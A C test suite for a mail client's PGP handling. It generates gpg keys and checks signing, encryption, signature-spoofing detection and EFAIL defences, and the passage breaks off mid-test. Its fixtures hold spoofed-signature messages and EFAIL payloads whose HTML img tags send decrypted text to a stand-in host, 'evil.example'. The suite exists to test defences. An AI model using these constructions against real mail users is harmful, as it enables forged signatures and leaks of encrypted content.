/*
 * crypto: PGP/MIME and inline PGP read strictly, signed and encrypted
 * for sending, against keys made by gpg in a throwaway GNUPGHOME.  gpg
 * itself checks what wary makes, and makes messages wary must read; the
 * attack messages (signature spoofing, EFAIL) are built here around real
 * signatures and ciphertexts.
 */
#include <stdarg.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/base.h"
#include "crypto/crypto.h"
#include "inspect/inspect.h"
#include "mail/mail.h"
#include "render/render.h"
#include "t.h"

static char home[512];
static struct crypto *cr;
static char alice_fpr[64], bob_fpr[64], mallory_fpr[64];

static int sh(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static int sh(const char *fmt, ...)
{
	struct buf b = BUF_INIT;
	va_list ap;
	int rc;

	va_start(ap, fmt);
	buf_vaddf(&b, fmt, ap);
	va_end(ap);
	buf_adds(&b, " >/dev/null 2>&1");
	rc = system(b.data);
	buf_release(&b);
	return rc == -1 ? -1 : WEXITSTATUS(rc);
}

static void put(const char *name, const char *data, size_t len)
{
	char path[1024], err[WARY_ERRLEN];

	snprintf(path, sizeof(path), "%s/%s", home, name);
	unlink(path);
	if (fs_write_atomic(path, data, len, 0600, err, sizeof(err)) != WARY_OK)
		printf("# write %s: %s\n", name, err);
}

static struct buf get(const char *name)
{
	char path[1024], err[WARY_ERRLEN];
	struct buf b = BUF_INIT;

	buf_init(&b);
	snprintf(path, sizeof(path), "%s/%s", home, name);
	if (fs_read_file(path, &b, 0, err, sizeof(err)) != WARY_OK)
		printf("# read %s: %s\n", name, err);
	return b;
}

/* The one key of an address, by wary's own listing. */
static void fpr_of(const char *uid_addr, char *out, size_t len)
{
	struct crypto_key *k = NULL;
	size_t n = 0;
	char err[WARY_ERRLEN];

	out[0] = '\0';
	if (crypto_keys_for(cr, uid_addr, true, false, &k, &n, err, sizeof(err)) == WARY_OK && n > 0)
		str_copy(out, k[n - 1].fpr, len);
	crypto_keys_free(&k, n);
}

static int gen_key(const char *uid)
{
	return sh("gpg --batch --passphrase '' --quick-gen-key '%s' ed25519 sign,cert never", uid);
}

static int add_enc(const char *fpr)
{
	return sh("gpg --batch --passphrase '' --quick-add-key %s cv25519 encr never", fpr);
}

static struct crypto_result *analyze_bytes(const char *data, size_t len, struct mail_msg **keep)
{
	struct mail_msg *m = NULL;
	struct crypto_result *r = NULL;
	char err[WARY_ERRLEN];

	if (mail_parse(data, len, &m, err, sizeof(err)) != WARY_OK) {
		printf("# parse: %s\n", err);
		return NULL;
	}
	if (crypto_analyze(cr, m, &r, err, sizeof(err)) != WARY_OK)
		printf("# analyze: %s\n", err);
	if (keep)
		*keep = m;
	else
		mail_free(&m);
	return r;
}

static struct crypto_result *analyze(const struct buf *b)
{
	return analyze_bytes(b->data, b->len, NULL);
}

static bool has_flag(const struct crypto_result *r, unsigned f)
{
	return r != NULL && (r->flags & f) != 0;
}

/* The JSON of `wary inspect --json` for the message, as a string. */
static char *inspect_of(const struct buf *b)
{
	struct mail_msg *m = NULL;
	struct buf out = BUF_INIT;
	char err[WARY_ERRLEN];

	buf_init(&out);
	if (mail_parse(b->data, b->len, &m, err, sizeof(err)) == WARY_OK)
		(void)inspect_json(m, &out, err, sizeof(err));
	mail_free(&m);
	return buf_detach(&out, NULL);
}

/* Every rendered line of a message (what the pager would show) joined. */
static char *rendered(const char *data, size_t len, size_t *blocked)
{
	struct mail_msg *m = NULL;
	struct render_doc *d = NULL;
	struct render_opts o = { RENDER_HEADERS_WEED, true, 80 };
	struct buf out = BUF_INIT;
	char err[WARY_ERRLEN];

	buf_init(&out);
	if (mail_parse(data, len, &m, err, sizeof(err)) == WARY_OK &&
	    render_message(m, &o, &d, err, sizeof(err)) == WARY_OK) {
		for (size_t i = 0; i < render_line_count(d); i++) {
			buf_adds(&out, render_line(d, i, NULL));
			buf_addch(&out, '\n');
		}
		if (blocked)
			*blocked = render_remote_blocked(d);
	}
	render_free(&d);
	mail_free(&m);
	return buf_detach(&out, NULL);
}

static const char text_entity[] =
	"Content-Type: text/plain; charset=utf-8\r\n"
	"Content-Transfer-Encoding: quoted-printable\r\n"
	"\r\n"
	"Pay invoice 4711 to account DE00 1234.\r\n"
	"-- \r\n"
	"Alice\r\n";

static void headers(struct buf *b, const char *from, const char *extra)
{
	buf_addf(b, "From: %s\r\nTo: Bob <bob@example.test>\r\nSubject: test\r\n"
	            "Date: Tue, 1 Dec 2026 10:00:00 +0000\r\nMessage-ID: <t@example.test>\r\n%s"
	            "MIME-Version: 1.0\r\n", from, extra ? extra : "");
}

/* ---- set-up ---------------------------------------------------------- */
static bool setup(void)
{
	struct buf d = BUF_INIT;
	char err[WARY_ERRLEN];

	if (fs_private_tmpdir(&d, err, sizeof(err)) != WARY_OK) {
		printf("# %s\n", err);
		return false;
	}
	str_copy(home, d.data, sizeof(home));
	buf_release(&d);
	setenv("GNUPGHOME", home, 1);
	if (sh("gpg --version") != 0)
		return false;
	/* the locked key's passphrase protection would otherwise be
	 * calibrated to take seconds */
	{
		char conf[600];

		snprintf(conf, sizeof(conf), "%s/gpg-agent.conf", home);
		if (fs_write_atomic(conf, "s2k-count 65536\n", 16, 0600, err, sizeof(err)) != WARY_OK)
			return false;
	}
	if (crypto_new(&cr, err, sizeof(err)) != WARY_OK) {
		printf("# %s\n", err);
		return false;
	}
	if (gen_key("Alice <alice@example.test>") || gen_key("Bob <bob@example.test>") ||
	    gen_key("Alice <alice@example.test> (mallory)"))
		return false;
	/* the imitation key is made last: fpr_of takes the last of an address */
	fpr_of("bob@example.test", bob_fpr, sizeof(bob_fpr));
	{
		struct crypto_key *k = NULL;
		size_t n = 0;

		if (crypto_keys_for(cr, "alice@example.test", true, false, &k, &n, err, sizeof(err)) ==
		            WARY_OK && n == 2) {
			/* keys come in keyring order: the first made is alice's */
			str_copy(alice_fpr, k[0].fpr, sizeof(alice_fpr));
			str_copy(mallory_fpr, k[1].fpr, sizeof(mallory_fpr));
		}
		crypto_keys_free(&k, n);
	}
	if (!alice_fpr[0] || !bob_fpr[0] || !mallory_fpr[0])
		return false;
	if (add_enc(alice_fpr) || add_enc(bob_fpr) || add_enc(mallory_fpr))
		return false;
	/* alice is the user; bob's key is valid through her local signature;
	 * the imitation of alice is not certified by anyone */
	/* (gpg gives every key made here ultimate trust: only alice keeps it) */
	if (sh("printf '%s:6:\\n%s:2:\\n%s:2:\\n' | gpg --batch --import-ownertrust", alice_fpr,
	       bob_fpr, mallory_fpr) ||
	    sh("gpg --batch -u %s --quick-lsign-key %s", alice_fpr, bob_fpr) ||
	    sh("gpg --batch --check-trustdb"))
		return false;
	return true;
}

/* ---- sending ---------------------------------------------------------- */
static void test_sign_roundtrip(struct buf *signed_msg, struct buf *signed_entity)
{
	char err[WARY_ERRLEN];
	struct buf out = BUF_INIT, msg = BUF_INIT;
	struct crypto_result *r;
	struct mail_msg *m = NULL;
	int rc;

	buf_init(&out);
	/* by fingerprint, as signing_key names it: two secret keys here
	 * carry alice's address (the imitation's is here too, for the tests) */
	rc = crypto_sign_entity(cr, alice_fpr, text_entity, strlen(text_entity), &out, err,
	                        sizeof(err));
	if (rc != WARY_OK)
		printf("# %s\n", err);
	T_INT(rc, WARY_OK, "sign: alice signs a text entity");
	T_OK(strstr(out.data, "multipart/signed; micalg=pgp-sha") != NULL,
	     "sign: multipart/signed with micalg from the hash used");
	T_OK(strstr(out.data, "protocol=\"application/pgp-signature\"") != NULL, "sign: protocol");
	buf_init(&msg);
	headers(&msg, "Alice <alice@example.test>", NULL);
	buf_add(&msg, out.data, out.len);
	r = analyze_bytes(msg.data, msg.len, &m);
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_WHOLE, "sign: read back as signed whole");
	T_OK(r && r->valid, "sign: wary's own signature is valid");
	T_OK(r && r->nsigs == 1 && strcmp(r->sigs[0].key_fpr, alice_fpr) == 0,
	     "sign: signer fingerprint is alice's");
	T_OK(r && r->nsigs == 1 && strstr(r->sigs[0].uid, "alice@example.test") != NULL,
	     "sign: signer UID shown");
	/* gpg agrees on the parts as they stand */
	if (m != NULL && mail_part_count_children(mail_root(m)) == 2) {
		size_t l1, l2;
		const char *p1 = mail_part_raw(mail_part_child(mail_root(m), 0), &l1);
		const char *p2 = mail_part_body(mail_part_child(mail_root(m), 1), &l2);

		put("s.data", p1, l1);
		put("s.sig", p2, l2);
		T_INT(sh("gpg --batch --verify %s/s.sig %s/s.data", home, home), 0,
		      "sign: gpg --verify agrees on the extracted parts");
		buf_add(signed_entity, p1, l1);
	} else {
		T_OK(0, "sign: two parts");
	}
	buf_add(signed_msg, msg.data, msg.len);
	mail_free(&m);
	crypto_result_free(&r);
	buf_release(&out);
	buf_release(&msg);
}

static void test_encrypt_roundtrip(void)
{
	char err[WARY_ERRLEN];
	struct buf out = BUF_INIT, msg = BUF_INIT;
	struct crypto_result *r;
	const char *to[] = { "bob@example.test" };
	const char *nobody[] = { "bob@example.test", "nobody@example.test" };
	int rc;

	buf_init(&out);
	rc = crypto_encrypt_entity(cr, to, 1, alice_fpr, text_entity, strlen(text_entity),
	                           &out, err, sizeof(err));
	if (rc != WARY_OK)
		printf("# %s\n", err);
	T_INT(rc, WARY_OK, "encrypt: to bob, signed by alice");
	T_OK(strstr(out.data, "multipart/encrypted") && strstr(out.data, "Version: 1"),
	     "encrypt: multipart/encrypted with its version part");
	T_OK(strstr(out.data, "Pay invoice") == NULL, "encrypt: no plaintext in the output");
	buf_init(&msg);
	headers(&msg, "Alice <alice@example.test>", NULL);
	buf_add(&msg, out.data, out.len);
	r = analyze(&msg);
	T_OK(r && r->encrypted_scope == CRYPTO_SCOPE_WHOLE, "encrypt: read back as encrypted whole");
	T_OK(r && r->plain && strstr(r->plain, "Pay invoice 4711") != NULL,
	     "encrypt: decrypted plaintext to render");
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_WHOLE && r->valid, "encrypt: signature inside is valid");
	T_INT(r ? r->nrecipients : 0, 2, "encrypt: bob and alice's own key are recipients");
	T_OK(r && r->plain && strstr(r->plain, "From: Alice <alice@example.test>") != NULL,
	     "encrypt: the decrypted message keeps the outer From");
	crypto_result_free(&r);
	{
		const char *a = strstr(out.data, "-----BEGIN PGP MESSAGE-----");
		const char *e = a ? strstr(a, "-----END PGP MESSAGE-----") : NULL;

		if (a && e) {
			struct buf p;

			put("e.asc", a, (size_t)(e - a) + 25);
			T_INT(sh("gpg --batch -o %s/e.out --decrypt %s/e.asc", home, home), 0,
			      "encrypt: gpg --decrypt agrees");
			p = get("e.out");
			T_OK(strstr(p.data, "Pay invoice 4711") != NULL, "encrypt: gpg sees the entity");
			buf_release(&p);
		} else {
			T_OK(0, "encrypt: armour found");
		}
	}
	buf_reset(&out);
	rc = crypto_encrypt_entity(cr, nobody, 2, NULL, text_entity, strlen(text_entity), &out, err,
	                           sizeof(err));
	T_INT(rc, WARY_ENOENT, "encrypt: a recipient without a key is refused");
	T_OK(strstr(err, "nobody@example.test") != NULL, "encrypt: the refusal names the recipient");
	/* a second valid key for bob: the choice is not wary's to make */
	if (gen_key("Bob Two <bob@example.test>") == 0) {
		char b2[64] = "";
		struct crypto_key *k = NULL;
		size_t n = 0;

		fpr_of("bob@example.test", b2, sizeof(b2));
		add_enc(b2);
		sh("echo '%s:2:' | gpg --batch --import-ownertrust", b2);
		sh("gpg --batch -u %s --quick-lsign-key %s", alice_fpr, b2);
		sh("gpg --batch --check-trustdb");
		buf_reset(&out);
		rc = crypto_encrypt_entity(cr, to, 1, NULL, text_entity, strlen(text_entity), &out, err,
		                           sizeof(err));
		T_INT(rc, WARY_ERR, "encrypt: two valid keys for bob: refused");
		T_OK(strstr(err, bob_fpr) && strstr(err, b2), "encrypt: the refusal names both keys");
		T_OK(crypto_keys_for(cr, "bob@example.test", false, true, &k, &n, err, sizeof(err)) ==
		             WARY_OK && n == 2, "keys: the picker lists bob's two keys");
		crypto_keys_free(&k, n);
		{
			const char *byfpr[] = { b2 };

			buf_reset(&out);
			rc = crypto_encrypt_entity(cr, byfpr, 1, NULL, text_entity, strlen(text_entity),
			                           &out, err, sizeof(err));
			T_INT(rc, WARY_OK, "encrypt: a key chosen by fingerprint");
		}
		sh("gpg --batch --yes --delete-secret-and-public-key %s", b2);
	} else {
		T_OK(0, "second key for bob");
	}
	{
		struct crypto_key *k = NULL;
		size_t n = 0;

		T_OK(crypto_keys_for(cr, "alice@example.test", false, true, &k, &n, err, sizeof(err)) ==
		             WARY_OK && n == 1 && strcmp(k[0].fpr, alice_fpr) == 0,
		     "keys: of alice's two keys only the valid one is usable");
		crypto_keys_free(&k, n);
	}
	buf_release(&out);
	buf_release(&msg);
}

/* ---- gpg-made messages -------------------------------------------------- */
static void test_gpg_made(void)
{
	struct buf msg = BUF_INIT, sig;
	struct crypto_result *r;
	const char body[] = "Meet at noon.\nBring the keys.\n";

	/* PGP/MIME signed by gpg over an entity written here */
	put("g.ent", text_entity, strlen(text_entity));
	sh("gpg --batch --yes -u %s --armor -o %s/g.sig --detach-sign %s/g.ent", alice_fpr, home, home);
	sig = get("g.sig");
	buf_init(&msg);
	headers(&msg, "alice@example.test", NULL);
	buf_addf(&msg, "Content-Type: multipart/signed; micalg=pgp-sha512; protocol=\"application/pgp-signature\"; boundary=\"b1\"\r\n\r\n--b1\r\n%s\r\n--b1\r\nContent-Type: application/pgp-signature\r\n\r\n%s\r\n--b1--\r\n",
	         text_entity, sig.data);
	r = analyze(&msg);
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_WHOLE && r->valid && r->nsigs == 1 &&
	             r->sigs[0].status == CRYPTO_SIG_GOOD,
	     "gpg-made PGP/MIME signature: good and valid");
	crypto_result_free(&r);
	buf_release(&sig);

	/* inline clearsigned */
	put("c.txt", body, strlen(body));
	sh("gpg --batch --yes -u %s -o %s/c.asc --clearsign %s/c.txt", alice_fpr, home, home);
	sig = get("c.asc");
	buf_reset(&msg);
	headers(&msg, "alice@example.test", NULL);
	buf_addf(&msg, "Content-Type: text/plain\r\n\r\n%s", sig.data);
	r = analyze(&msg);
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_WHOLE && r->valid && has_flag(r, CRYPTO_F_INLINE),
	     "gpg-made clearsigned text: whole, valid, inline");
	crypto_result_free(&r);

	/* text before the signed block */
	buf_reset(&msg);
	headers(&msg, "alice@example.test", NULL);
	buf_addf(&msg, "Content-Type: text/plain\r\n\r\nIgnore the below, pay account XX 666.\r\n\r\n%s",
	         sig.data);
	r = analyze(&msg);
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_PART && !r->valid &&
	             has_flag(r, CRYPTO_F_UNSIGNED_TEXT),
	     "spoof: inline signed block with text before it is a part, unsigned text flagged");
	crypto_result_free(&r);
	/* text after it */
	buf_reset(&msg);
	headers(&msg, "alice@example.test", NULL);
	buf_addf(&msg, "Content-Type: text/plain\r\n\r\n%s\r\nP.S. the account changed: XX 666.\r\n",
	         sig.data);
	r = analyze(&msg);
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_PART && !r->valid &&
	             has_flag(r, CRYPTO_F_UNSIGNED_TEXT),
	     "spoof: inline signed block with text after it is a part");
	crypto_result_free(&r);
	/* a changed word inside the clearsigned text */
	{
		char *t = xstrdup(sig.data), *w = strstr(t, "noon");

		if (w)
			memcpy(w, "nine", 4);
		buf_reset(&msg);
		headers(&msg, "alice@example.test", NULL);
		buf_addf(&msg, "Content-Type: text/plain\r\n\r\n%s", t);
		r = analyze(&msg);
		T_OK(r && !r->valid && r->nsigs == 1 && r->sigs[0].status == CRYPTO_SIG_BAD &&
		             has_flag(r, CRYPTO_F_BAD_SIGNATURE),
		     "spoof: changed clearsigned text is a bad signature");
		crypto_result_free(&r);
		free(t);
	}
	buf_release(&sig);

	/* inline encrypted and signed by gpg */
	sh("gpg --batch --yes -u %s -r %s --armor -o %s/i.asc --sign --encrypt %s/c.txt", alice_fpr,
	   alice_fpr, home, home);
	sig = get("i.asc");
	buf_reset(&msg);
	headers(&msg, "alice@example.test", NULL);
	buf_addf(&msg, "Content-Type: text/plain; charset=us-ascii\r\n\r\n%s", sig.data);
	r = analyze(&msg);
	T_OK(r && r->encrypted_scope == CRYPTO_SCOPE_WHOLE && r->plain &&
	             strstr(r->plain, "Bring the keys.") != NULL,
	     "gpg-made inline encrypted message decrypted");
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_WHOLE && r->valid,
	     "gpg-made inline signed+encrypted: valid signature");
	crypto_result_free(&r);
	buf_release(&sig);
	buf_release(&msg);
}

/* ---- signature spoofing ------------------------------------------------- */
static void test_spoofing(const struct buf *signed_msg, const struct buf *entity)
{
	struct buf msg = BUF_INIT, sigpart = BUF_INIT;
	struct crypto_result *r;
	const char *sp = strstr(signed_msg->data, "Content-Type: multipart/signed");

	if (sp == NULL) {
		T_OK(0, "spoof: a signed message to start from");
		return;
	}
	buf_init(&msg);
	buf_init(&sigpart);
	/* the signed entity as it stands, ready to be wrapped */
	buf_add(&sigpart, sp, strlen(sp));

	/* signer different from From */
	headers(&msg, "Bob <bob@example.test>", NULL);
	buf_add(&msg, sigpart.data, sigpart.len);
	r = analyze(&msg);
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_WHOLE && !r->valid &&
	             has_flag(r, CRYPTO_F_SIGNER_NOT_FROM),
	     "spoof: alice's signature under From bob is not valid, signer-not-from");
	crypto_result_free(&r);

	/* two From headers */
	buf_reset(&msg);
	headers(&msg, "Alice <alice@example.test>", "From: Mallory <mallory@evil.test>\r\n");
	buf_add(&msg, sigpart.data, sigpart.len);
	r = analyze(&msg);
	T_OK(r && !r->valid && has_flag(r, CRYPTO_F_FROM_AMBIGUOUS),
	     "spoof: two From headers: not valid, from-ambiguous");
	crypto_result_free(&r);

	/* the signed part wrapped in a mixed message with more content */
	buf_reset(&msg);
	headers(&msg, "Alice <alice@example.test>", NULL);
	buf_addf(&msg, "Content-Type: multipart/mixed; boundary=\"mx\"\r\n\r\n--mx\r\n"
	               "Content-Type: text/html\r\n\r\n<p>New bank details: XX 666</p>"
	               "<div style=\"display:none\">\r\n--mx\r\n%s\r\n--mx\r\n"
	               "Content-Type: text/html\r\n\r\n</div>\r\n--mx--\r\n", sigpart.data);
	r = analyze(&msg);
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_PART && !r->valid &&
	             has_flag(r, CRYPTO_F_PART_ONLY),
	     "spoof: signed part wrapped in mixed with hidden content: a part, not valid");
	T_OK(r && r->nsigs == 1 && r->sigs[0].status == CRYPTO_SIG_GOOD,
	     "spoof: the part's own signature is still checked (good, for the part)");
	{
		struct buf line = BUF_INIT;

		buf_init(&line);
		T_OK(r && crypto_result_summary(r, &line) != CRYPTO_LEVEL_GOOD &&
		             strstr(line.data, "ONLY PART 2 is signed, the rest is NOT") &&
		             strcmp(r->signed_part, "2") == 0,
		     "spoof: the chrome names the signed part and says the rest is not signed");
		buf_release(&line);
	}
	crypto_result_free(&r);
	{
		char *j = inspect_of(&msg);

		T_OK(strstr(j, "\"signed\":\"part\"") && strstr(j, "\"valid\":false"),
		     "spoof: inspect --json says part, valid false");
		free(j);
	}

	/* the signed message as an attachment */
	buf_reset(&msg);
	headers(&msg, "Alice <alice@example.test>", NULL);
	buf_addf(&msg, "Content-Type: multipart/mixed; boundary=\"mx\"\r\n\r\n--mx\r\n"
	               "Content-Type: text/plain\r\n\r\nSee the attached, signed by alice.\r\n--mx\r\n"
	               "Content-Disposition: attachment\r\n%s\r\n--mx--\r\n", sigpart.data);
	r = analyze(&msg);
	T_OK(r && r->signed_scope != CRYPTO_SCOPE_WHOLE && !r->valid &&
	             has_flag(r, CRYPTO_F_NESTED_IGNORED),
	     "spoof: an attached signed part is never promoted");
	crypto_result_free(&r);

	/* a signature in a cid-referenced part */
	buf_reset(&msg);
	headers(&msg, "Alice <alice@example.test>", NULL);
	buf_addf(&msg, "Content-Type: multipart/related; boundary=\"rl\"\r\n\r\n--rl\r\n"
	               "Content-Type: text/html\r\n\r\n<p>Wire the money.</p><img src=\"cid:s@x\">\r\n"
	               "--rl\r\nContent-ID: <s@x>\r\n%s\r\n--rl--\r\n", sigpart.data);
	r = analyze(&msg);
	T_OK(r && r->signed_scope != CRYPTO_SCOPE_WHOLE && !r->valid &&
	             has_flag(r, CRYPTO_F_NESTED_IGNORED),
	     "spoof: a signature in a cid part is not promoted");
	crypto_result_free(&r);

	/* a lone detached signature beside unsigned text */
	{
		const char *s = strstr(sigpart.data, "-----BEGIN PGP SIGNATURE-----");

		buf_reset(&msg);
		headers(&msg, "Alice <alice@example.test>", NULL);
		buf_addf(&msg, "Content-Type: multipart/mixed; boundary=\"mx\"\r\n\r\n--mx\r\n"
		               "Content-Type: text/plain\r\n\r\nTrust me.\r\n--mx\r\n"
		               "Content-Type: application/pgp-signature\r\n\r\n%s\r\n--mx--\r\n",
		         s ? s : "");
		r = analyze(&msg);
		T_OK(r && r->signed_scope == CRYPTO_SCOPE_NONE && !r->valid &&
		             has_flag(r, CRYPTO_F_NESTED_IGNORED),
		     "spoof: a loose detached signature signs nothing");
		crypto_result_free(&r);
	}

	/* the IMAP store left a part of it on the server: not checked, not bad */
	{
		char *t = xstrdup(signed_msg->data), *w = strstr(t, "Content-Transfer-Encoding: quoted-printable");
		struct buf om = BUF_INIT;

		buf_init(&om);
		if (w) {
			buf_add(&om, t, (size_t)(w - t));
			buf_adds(&om, "X-Wary-Omitted: 40000 bytes, fetch on demand as part 1\r\n");
			buf_adds(&om, w);
		}
		r = analyze(&om);
		T_OK(r && !r->valid && r->nsigs == 0 && has_flag(r, CRYPTO_F_SIG_ERROR) && r->error &&
		             strstr(r->error, "not downloaded"),
		     "a signed message with a part not downloaded: not checked (neither good nor bad)");
		crypto_result_free(&r);
		buf_release(&om);
		free(t);
	}

	/* a changed byte in the signed entity: bad signature */
	{
		char *t = xstrdup(signed_msg->data), *w = strstr(t, "4711");

		if (w)
			w[0] = '9';
		r = analyze_bytes(t, strlen(t), NULL);
		T_OK(r && !r->valid && r->nsigs == 1 && r->sigs[0].status == CRYPTO_SIG_BAD,
		     "spoof: a changed body is a bad signature");
		crypto_result_free(&r);
		free(t);
	}

	/* a key whose UID imitates alice signs as alice */
	{
		char err[WARY_ERRLEN];
		struct buf out = BUF_INIT;

		buf_init(&out);
		if (crypto_sign_entity(cr, mallory_fpr, text_entity, strlen(text_entity), &out, err,
		                       sizeof(err)) == WARY_OK) {
			buf_reset(&msg);
			headers(&msg, "Alice <alice@example.test>", NULL);
			buf_add(&msg, out.data, out.len);
			r = analyze(&msg);
			T_OK(r && !r->valid && r->nsigs == 1 && r->sigs[0].status == CRYPTO_SIG_GOOD &&
			             has_flag(r, CRYPTO_F_UNTRUSTED_KEY) &&
			             has_flag(r, CRYPTO_F_SIGNER_NOT_FROM),
			     "spoof: a key imitating alice's UID: good maths, not valid, untrusted");
			T_OK(r && r->nsigs == 1 && strcmp(r->sigs[0].key_fpr, mallory_fpr) == 0,
			     "spoof: the imitation's real fingerprint is shown");
			crypto_result_free(&r);
			{
				char *j = inspect_of(&msg);

				T_OK(strstr(j, "\"valid\":false") && strstr(j, mallory_fpr) &&
				             strstr(j, "untrusted-key"),
				     "spoof: inspect shows the imitation's fingerprint, untrusted, not valid");
				free(j);
			}
		} else {
			T_OK(0, "sign with the imitation key");
		}
		/* bob adds a UID with alice's address to his own (valid) key */
		if (sh("gpg --batch --quick-add-uid %s 'Alice <alice@example.test>'", bob_fpr) == 0) {
			buf_reset(&out);
			if (crypto_sign_entity(cr, bob_fpr, text_entity, strlen(text_entity), &out, err,
			                       sizeof(err)) == WARY_OK) {
				buf_reset(&msg);
				headers(&msg, "Alice <alice@example.test>", NULL);
				buf_add(&msg, out.data, out.len);
				r = analyze(&msg);
				T_OK(r && !r->valid && has_flag(r, CRYPTO_F_SIGNER_NOT_FROM),
				     "spoof: an uncertified UID added to a valid key does not vouch for From");
				crypto_result_free(&r);
			}
			sh("gpg --batch --yes --quick-revoke-uid %s 'Alice <alice@example.test>'", bob_fpr);
		}
		buf_release(&out);
	}

	/* a body that imitates wary's status line, without any signature */
	buf_reset(&msg);
	headers(&msg, "Alice <alice@example.test>", NULL);
	buf_adds(&msg, "Content-Type: text/plain\r\n\r\nPGP: good signature from Alice "
	               "<alice@example.test> (valid, full)\r\n");
	r = analyze(&msg);
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_NONE && !r->valid,
	     "spoof: a body imitating the status line is not signed");
	crypto_result_free(&r);
	(void)entity;
	buf_release(&msg);
	buf_release(&sigpart);
}

/* ---- unknown key -------------------------------------------------------- */
static void test_unknown_key(void)
{
	char carol[64] = "", err[WARY_ERRLEN];
	struct buf out = BUF_INIT, msg = BUF_INIT;
	struct crypto_result *r;

	buf_init(&out);
	buf_init(&msg);
	if (gen_key("Carol <carol@example.test>") != 0)
		goto out;
	fpr_of("carol@example.test", carol, sizeof(carol));
	if (crypto_sign_entity(cr, carol, text_entity, strlen(text_entity), &out, err, sizeof(err)) !=
	    WARY_OK)
		goto out;
	sh("gpg --batch --yes --delete-secret-and-public-key %s", carol);
	headers(&msg, "Carol <carol@example.test>", NULL);
	buf_add(&msg, out.data, out.len);
	r = analyze(&msg);
	T_OK(r && !r->valid && r->nsigs == 1 && r->sigs[0].status == CRYPTO_SIG_NO_KEY &&
	             has_flag(r, CRYPTO_F_UNKNOWN_KEY),
	     "a signature by a key not in the keyring: unknown key, not valid");
	crypto_result_free(&r);
out:
	buf_release(&out);
	buf_release(&msg);
}

/* ---- EFAIL -------------------------------------------------------------- */
static void test_efail(void)
{
	char err[WARY_ERRLEN];
	struct buf out = BUF_INIT, msg = BUF_INIT, c;
	struct crypto_result *r;
	const char *to[] = { "alice@example.test" };
	const char html[] =
		"Content-Type: text/html; charset=utf-8\r\n\r\n"
		"<html><body><p>SECRET-HTML-7</p><img src=\"http://tracker.example/p.png\" width=1 height=1>"
		"<img src=\"https://evil.example/leak?x=\"></body></html>\r\n";
	char *lines;
	size_t blocked = 0;

	buf_init(&out);
	buf_init(&msg);
	/* encrypted part between attacker-controlled HTML parts */
	if (crypto_encrypt_entity(cr, to, 1, NULL, text_entity, strlen(text_entity), &out, err,
	                          sizeof(err)) != WARY_OK) {
		T_OK(0, "efail: encrypt");
		goto out;
	}
	headers(&msg, "Alice <alice@example.test>", NULL);
	buf_addf(&msg, "Content-Type: multipart/mixed; boundary=\"ef\"\r\n\r\n--ef\r\n"
	               "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--ef\r\n%s"
	               "\r\n--ef\r\nContent-Type: text/html\r\n\r\n\">\r\n--ef--\r\n", out.data);
	r = analyze(&msg);
	T_OK(r && r->encrypted_scope == CRYPTO_SCOPE_PART && has_flag(r, CRYPTO_F_NOT_DECRYPTED) &&
	             r->plain == NULL && strcmp(r->encrypted_part, "2") == 0,
	     "efail: an encrypted part between HTML parts is marked (part 2), not decrypted");
	crypto_result_free(&r);
	{
		char *j = inspect_of(&msg);

		T_OK(strstr(j, "Pay invoice") == NULL && strstr(j, "\"encrypted\":\"part\""),
		     "efail: no plaintext in inspect, encrypted part");
		free(j);
	}
	lines = rendered(msg.data, msg.len, NULL);
	T_OK(strstr(lines, "Pay invoice") == NULL, "efail: no plaintext joined with the other parts");
	free(lines);

	/* encrypted HTML with remote images: rendered with nothing loaded */
	buf_reset(&out);
	if (crypto_encrypt_entity(cr, to, 1, NULL, html, strlen(html), &out, err, sizeof(err)) ==
	    WARY_OK) {
		buf_reset(&msg);
		headers(&msg, "Alice <alice@example.test>", NULL);
		buf_add(&msg, out.data, out.len);
		r = analyze(&msg);
		T_OK(r && r->plain && strstr(r->plain, "SECRET-HTML-7"), "efail: encrypted HTML decrypted");
		if (r && r->plain) {
			lines = rendered(r->plain, r->plainlen, &blocked);
			T_OK(strstr(lines, "SECRET-HTML-7") != NULL && blocked >= 2,
			     "efail: decrypted HTML rendered with its remote images blocked");
			free(lines);
		}
		crypto_result_free(&r);
	}

	/* no MDC: gpg --rfc2440 still writes one; refused, no plaintext */
	put("n.txt", text_entity, strlen(text_entity));
	if (sh("gpg --batch --yes --rfc2440 -r %s --armor -o %s/n.asc --encrypt %s/n.txt", alice_fpr,
	       home, home) == 0) {
		c = get("n.asc");
		buf_reset(&msg);
		headers(&msg, "Alice <alice@example.test>", NULL);
		buf_addf(&msg, "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n%s\r\n--e--\r\n",
		         c.data);
		r = analyze(&msg);
		T_OK(r && r->plain == NULL && has_flag(r, CRYPTO_F_DECRYPT_FAILED) && r->error != NULL,
		     "efail: a message without MDC fails, no plaintext");
		printf("# no MDC: %s%s\n", r && r->error ? r->error : "?",
		       has_flag(r, CRYPTO_F_NO_MDC) ? " (no-integrity-protection)" : "");
		crypto_result_free(&r);
		{
			char *j = inspect_of(&msg);

			T_OK(strstr(j, "Pay invoice") == NULL && strstr(j, "decryption-failed"),
			     "efail: inspect without MDC: no plaintext, decryption-failed");
			free(j);
		}
		buf_release(&c);
	} else {
		t_skip("efail: a message without MDC", "gpg cannot make one");
	}

	/* a tampered ciphertext */
	{
		char *t = xstrdup(out.data), *a = strstr(t, "-----BEGIN PGP MESSAGE-----");
		char *e = a ? strstr(a, "-----END") : NULL;

		if (a && e && e - a > 200) {
			char *x = a + (e - a) / 2;

			*x = *x == 'A' ? 'B' : 'A';
			buf_reset(&msg);
			headers(&msg, "Alice <alice@example.test>", NULL);
			buf_adds(&msg, t);
			r = analyze(&msg);
			T_OK(r && r->plain == NULL && has_flag(r, CRYPTO_F_DECRYPT_FAILED),
